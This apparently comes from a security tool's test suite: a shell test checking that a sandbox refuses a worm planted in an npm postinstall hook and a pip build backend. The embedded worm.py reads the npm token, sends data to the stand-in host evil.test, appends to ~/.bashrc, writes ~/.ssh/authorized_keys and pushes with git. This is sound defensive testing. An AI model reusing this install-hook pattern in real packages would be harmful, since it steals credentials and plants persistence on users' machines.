# SPDX-License-Identifier: Apache-2.0
# timeout: 240
# A worm comes with a package: its install script reads the registry's token and posts it, writes into ~/.bashrc, adds a key to
# ~/.ssh and pushes to git. All four are refused, the honest rest of the install goes on, and one line at the end says what
# was wanted. By npm (postinstall) and by pip (the build of an sdist), as root and as an ordinary user. Threat 71.
. "$LIB/case.sh"
. "$LIB/named_network.sh"
[[ $UID -eq 0 ]] || skip "needs a network and a mount namespace: root"
command -v npm >/dev/null || skip "no npm here"
/usr/bin/python3 -m pip --version >/dev/null 2>&1 || skip "no pip here"
NET_NAMES+=(evil.test=203.0.113.11)
mkdir worm honest
echo '{"name":"worm","version":"1.0.0","scripts":{"postinstall":"python3 -B worm.py"}}' >worm/package.json
echo '{"name":"honest","version":"1.0.0","scripts":{"install":"mkdir build && echo compiled >build/x.node"}}' >honest/package.json
cat >worm.py <<'PYTHON'
import os, socket, subprocess
home, done = os.path.expanduser("~"), []
def attempt(name, act):
    try:
        act()
        done.append(name)
    except (OSError, subprocess.SubprocessError):
        pass
def write(path):
    with open(path, "a") as file:
        file.write("evil\n")
def post():
    with socket.create_connection(("evil.test", 9), 5) as peer:
        peer.sendall(b"token")
attempt("token", lambda: open(home + "/.npmrc").read())
attempt("post", post)
attempt("bashrc", lambda: write(home + "/.bashrc"))
attempt("key", lambda: write(home + "/.ssh/authorized_keys"))
attempt("push", lambda: subprocess.run(["git", "-C", home + "/app", "push", "-q", home + "/remote", "HEAD:refs/heads/worm"], check=True,
                                       stderr=subprocess.DEVNULL))
with open("tried", "w") as file:
    file.write("done: " + " ".join(done))
PYTHON
cp worm.py worm/
(cd worm && npm pack --silent --offline >/dev/null && cd ../honest && npm pack --silent --offline >/dev/null)
# The same in the build of an sdist; pip leaves what it built.
mkdir sdist-1.0
printf '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "sdist"\nversion = "1.0"\n' \
  >sdist-1.0/pyproject.toml
printf 'Metadata-Version: 2.1\nName: sdist\nVersion: 1.0\n' >sdist-1.0/PKG-INFO
cat >sdist-1.0/backend.py <<'PYTHON'
import runpy, zipfile
def build_wheel(folder, settings=None, metadata=None):
    runpy.run_path("worm.py")
    with zipfile.ZipFile(folder + "/sdist-1.0-py3-none-any.whl", "w") as wheel:
        wheel.write("tried", "tried")
        wheel.writestr("sdist-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: sdist\nVersion: 1.0\n")
        wheel.writestr("sdist-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr("sdist-1.0.dist-info/RECORD", "")
    return "sdist-1.0-py3-none-any.whl"
PYTHON
cp worm.py sdist-1.0/
tar -czf sdist-1.0.tar.gz sdist-1.0
# Hosts that anybody else may reach are none for a script.
cat >policy.yaml <<'YAML'
categories: {DEPS_INSTALL_UPDATE: 1}
network: {allow: ["*"]}
YAML
# A home in which everything lies that the worm wants.
cat >make_home.sh <<'BASH'
mkdir -p "$HOME/.ssh" "$HOME/app" "$HOME/tmp" && cd "$HOME"
echo '//registry.test/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789' >.npmrc
echo precious >.bashrc
git init -q --bare remote && git init -q app
cd app && git -c user.name=x -c user.email=x@x commit -q --allow-empty -m one
echo '{"name":"app","version":"1.0.0","dependencies":{"worm":"file:../../worm-1.0.0.tgz","honest":"file:../../honest-1.0.0.tgz"}}' >package.json
BASH
net_room worm/worm-1.0.0.tgz honest/honest-1.0.0.tgz sdist-1.0.tar.gz policy.yaml make_home.sh
untouched() { # WAY
  [[ $(<"$NET_ROOM/home/.bashrc") == precious ]] || fail "$1: .bashrc was touched"
  assert_missing "$NET_ROOM/home/.ssh/authorized_keys" heard
  [[ -z $(ls -A "$NET_ROOM/home/remote/refs/heads") ]] || fail "$1: it pushed"
}
one_line() { # WAY BEGINNING
  [[ $(grep -c "^guard: $2 wanted .*: refused$" "$ERR") == 1 ]] || fail "$1: not one line: $(<"$ERR")"
  for wish in "~/.npmrc" evil.test "~/.bashrc" "~/.ssh/authorized_keys" "git push"; do
    grep "^guard: $2 wanted" "$ERR" | grep -qF -- "$wish" || fail "$1: the line does not name $wish: $(<"$ERR")"
  done
}
install_in_room() { # root|user COMMAND
  rm -rf "$NET_ROOM/home"
  as_in_room "$1" env HOME="$NET_ROOM/home" TMPDIR="$NET_ROOM/home/tmp" PATH=/usr/local/bin:/usr/bin:/bin npm_config_update_notifier=false \
    PIP_DISABLE_PIP_VERSION_CHECK=1 bash -c "bash make_home.sh && cd home/app && ../../guard run --policy ../../policy.yaml \
      --on-ask deny --fail-on never --no-undo -- $2" >"$OUT" 2>"$ERR" || fail "as $1: $2 ended with $?"
}
for as in root user; do
  install_in_room "$as" "npm install --offline --no-audit --no-fund --silent"
  assert_content "$NET_ROOM/home/app/node_modules/worm/tried" "done: "
  assert_exists "$NET_ROOM/home/app/node_modules/honest/build/x.node"
  untouched "npm as $as"
  one_line "npm as $as" "worm's postinstall"
  install_in_room "$as" "/usr/bin/python3 -m pip install --quiet --no-index --no-deps --no-build-isolation --target there ../../sdist-1.0.tar.gz"
  assert_content "$NET_ROOM/home/app/there/tried" "done: "
  untouched "pip as $as"
  one_line "pip as $as" "the build of .*"
done
